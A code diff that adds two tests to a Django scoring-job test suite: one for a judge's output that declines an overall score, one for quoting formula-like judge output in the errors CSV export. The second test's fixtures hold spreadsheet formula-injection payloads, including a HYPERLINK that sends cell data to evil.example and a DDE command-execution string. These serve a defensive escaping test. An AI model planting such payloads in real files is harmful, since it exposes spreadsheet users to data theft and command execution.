@@ -1,10 +1,13 @@
 """The scoring job end to end in this process: selection, cache, rescoring, rubric versions, failures."""
 
+import csv
+import io
 import json
 import uuid
 
 import pytest
 from django.core.management import CommandError, call_command
+from django.urls import reverse
 
 from annotation import jobs
 from annotation.judging import rubric_map, score_params, start_scoring
@@ -12,6 +15,7 @@ from annotation.management.commands import score as score_command
 from annotation.models import Dataset, Job, Judge, JudgeCacheEntry, Judgement, Pair, Prompt, Response, Rubric
 from annotation.rubrics import DEFAULT_RUBRICS
 
+from .helpers import Team
 from .llm_server import LLMServer, Reply
 
 
@@ -110,6 +114,37 @@ def test_a_job_in_which_every_request_failed_fails_and_the_command_exits_with_st
     assert job.errors.count() == 3  # each one listed on the job page with its reason
     written = json.loads(report.read_text(encoding="utf-8"))
     assert written["status"] == "failed" and written["problems"] == "3 of 3 requests gave no score"
+
+
+def test_a_judge_that_scores_each_point_but_declines_an_overall_score_is_stored_without_a_score(rubrics, server):
+    declined = "第1点[3]正确，第2点[9]错误。无法给出总体评分。"
+    server.when("DECLINED", Reply(content=declined))
+    server.when("LATER", Reply(content="第一次无法给出总体评分；补充条件后：准确性[8]。\n总体评分：[7]"))
+    dataset = Dataset.objects.create(name="s")
+    make_responses(dataset, ["DECLINED", "LATER"])
+    job = run(dataset, [make_judge(server)])
+    by_text = {j.response.text: j for j in Judgement.objects.select_related("response")}
+    assert (by_text["DECLINED"].status, by_text["DECLINED"].score) == ("parse_error", None)
+    assert by_text["DECLINED"].raw_output == declined
+    assert (by_text["LATER"].status, by_text["LATER"].score) == ("ok", 7)
+    assert job.counts["parse_error"] == 1 and job.counts["ok"] == 1
+    assert [e.reason.split(": ", 1)[1] for e in job.errors.all()] == [
+        "parse_error: the judge gives no overall score ('无法给出总体评分')"]
+
+
+def test_the_errors_csv_quotes_judge_output_that_a_spreadsheet_would_run_as_a_formula(rubrics, server, client):
+    answers = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
+               "\t=1+1", "回答中 -1 和 =2 不在开头"]
+    for i, answer in enumerate(answers):
+        server.when(f"«{i}»", Reply(content=answer))
+    team = Team.create("s")
+    make_responses(team.dataset, [f"«{i}»" for i in range(len(answers))])
+    job = run(team.dataset, [make_judge(server)])
+    client.force_login(team.viewer)
+    body = b"".join(client.get(reverse("job-errors-csv", args=[job.pk])).streaming_content).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert sorted(row["excerpt"] for row in rows) == sorted(["'" + a for a in answers[:-1]] + answers[-1:])
+    assert all("parse_error: no score found" in row["reason"] for row in rows)
 
 
 def test_a_rerun_scores_only_what_is_missing_and_retries_errors(rubrics, server, settings):
